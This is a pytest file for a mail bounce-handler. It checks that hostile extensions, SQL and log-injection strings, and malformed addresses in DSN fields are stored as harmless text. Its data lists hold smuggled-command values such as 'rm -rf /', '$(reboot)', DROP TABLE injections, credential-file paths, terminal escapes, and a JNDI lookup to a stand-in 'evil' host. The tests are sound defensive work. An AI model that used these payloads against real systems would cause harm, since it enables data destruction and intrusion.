"""Hostile extensions and SQL/log-injection strings in every field: stored as data, harmless."""

from __future__ import annotations

import base64
import subprocess

import pytest

from tests.conftest import SAMPLES, script
from tests.faults.helpers import assert_clean, run_handler
from tests.support.stored import one_line

DSN = (SAMPLES / "01-postfix-user-unknown.eml").read_bytes()
TABLES = (
    "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name"
)

EXTENSIONS = [
    "alice=example.net\nInjected: header",
    "alice=example.net\r\noutcome=recorded exit=0",
    "a;rm -rf /;=example.net",
    "\"quoted\"='single'=example.net",
    "../../../etc/passwd",
    "x" * 500,
    "y" * 5000,
    "$(reboot)`id`=example.net",
    "-rf",
    "--config=/etc/shadow",
    "Robert'); DROP TABLE messages;--",
    "\x1b[2J\x1b[31mred",
    "ünïcödé=exämple.net",
]


@pytest.mark.parametrize("ext", EXTENSIONS, ids=range(len(EXTENSIONS)))
def test_hostile_extension_is_data(store, ext):
    res, _, _ = run_handler(store.config, ext, DSN)
    assert_clean(res)
    assert res.returncode == 0
    assert len(res.stderr.decode().splitlines()) == 1  # the log line: one line, escaped
    assert b"\x1b" not in res.stdout + res.stderr
    assert [r[0] for r in store.query(TABLES)] == sorted(r[0] for r in store.query(TABLES))
    assert "messages" in [r[0] for r in store.query(TABLES)]
    [(stored,)] = store.query("SELECT extension FROM messages")
    # Kept as data, one line: CR/LF become blanks, ESC a visible U+FFFD (store/rows.py).
    assert stored == one_line(ext if len(ext) <= 500 else ext[:499] + "…")
    assert stored.isprintable()


def test_invalid_utf8_extension_is_data(store):
    proc = subprocess.run(
        [script("bounce-handler"), "--config", str(store.config), "--", b"\xff\xfe=ex.net"],
        input=DSN, capture_output=True,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert b"Traceback" not in proc.stderr


def test_nul_cannot_reach_the_handler_through_argv():
    # execve(2) takes C strings: an argument with NUL cannot exist, so pipe(8) can never
    # hand us one (Postfix's own smtpd also rejects NUL in addresses). Python refuses too.
    with pytest.raises(ValueError, match="null byte"):
        subprocess.run([script("bounce-handler"), "a\x00b"], input=b"", capture_output=True)


INJECTIONS = [
    "'); DROP TABLE messages; --",
    "\" OR 1=1; DELETE FROM bounce_events; --",
    "x\r\nINJECTED outcome=recorded exit=0",
    "\x1b]0;pwned\x07\x1b[2J",
    "%s%n%x{0}${jndi:ldap://evil/a}",
]


def _encoded(text: str) -> str:
    """RFC 2047 word: the only way a CR/LF can get into a decoded header value."""
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


@pytest.mark.parametrize("evil", INJECTIONS, ids=range(len(INJECTIONS)))
def test_injection_in_every_field_is_stored_as_text(store, evil):
    enc = _encoded(evil)
    flat = evil.replace("\r", " ").replace("\n", " ")
    dsn = DSN.decode()
    dsn = dsn.replace("Subject: Undelivered Mail Returned to Sender", f"Subject: {enc}")
    dsn = dsn.replace("From: MAILER-DAEMON@mx.remote.example (Mail Delivery System)",
                      f"From: MAILER-DAEMON@mx.remote.example ({enc})")
    dsn = dsn.replace("Reporting-MTA: dns; mx.remote.example", f"Reporting-MTA: dns; {flat}")
    dsn = dsn.replace("Remote-MTA: dns; mail.example.net", f"Remote-MTA: dns; {flat}")
    dsn = dsn.replace("Diagnostic-Code: smtp;", f"Diagnostic-Code: smtp; {flat}")
    dsn = dsn.replace("Message-Id: <offer", f"Message-Id: <{flat}offer")
    res, _, _ = run_handler(store.config, "alice=example.net", dsn.encode(),
                            args=("--queue-id", evil, "--sender", evil))
    assert_clean(res)
    assert res.returncode == 0
    assert len(res.stderr.decode().splitlines()) == 1
    assert b"\x1b" not in res.stdout + res.stderr and b"\x07" not in res.stderr
    names = [r[0] for r in store.query(TABLES)]
    for t in ("messages", "bounce_events", "raw_messages", "quarantine"):
        assert t in names
    assert store.query("SELECT count(*) FROM messages")[0][0] == 1
    [(qid, sender)] = store.query("SELECT queue_id, envelope_sender FROM messages")
    assert sender == one_line(evil) and qid == one_line(evil, 64)
    diag = store.query("SELECT diagnostic FROM bounce_events")
    assert diag and " ".join(flat.split()) in diag[0][0]  # stored as text (blanks folded)


MALFORMED = [
    "<<>>",
    "@@",
    "a@b@c@d",
    "alice@",
    "@example.net",
    '"spaced local part"@example.net',
    "alice@[192.0.2.1]",
    "alice@example..net",
    "ålice@exämple.net",
    "a" * 10_000 + "@example.net",
    "alice@" + "b" * 10_000 + ".net",
    "alice@example.net\x00evil",
    "=?utf-8?b?YWxpY2VAZXhhbXBsZS5uZXQ=?=",
    "rfc822;",
    "",
]


@pytest.mark.parametrize("addr", MALFORMED, ids=range(len(MALFORMED)))
def test_malformed_final_recipient(store, addr):
    dsn = DSN.replace(b"Final-Recipient: rfc822; alice@example.net",
                      b"Final-Recipient: rfc822; " + addr.encode())
    dsn = dsn.replace(b"Original-Recipient: rfc822;alice@example.net",
                      b"Original-Recipient: rfc822;" + addr.encode())
    res, wall, rss = run_handler(store.config, None, dsn)  # no VERP: the DSN alone decides
    assert_clean(res)
    assert res.returncode == 0
    assert wall < 10 and rss < 300
    [(disposition,)] = store.query("SELECT disposition FROM messages")
    assert disposition in ("recorded", "quarantined")
    for (rcpt,) in store.query("SELECT recipient FROM bounce_events"):
        assert "\x00" not in rcpt and len(rcpt) <= 500
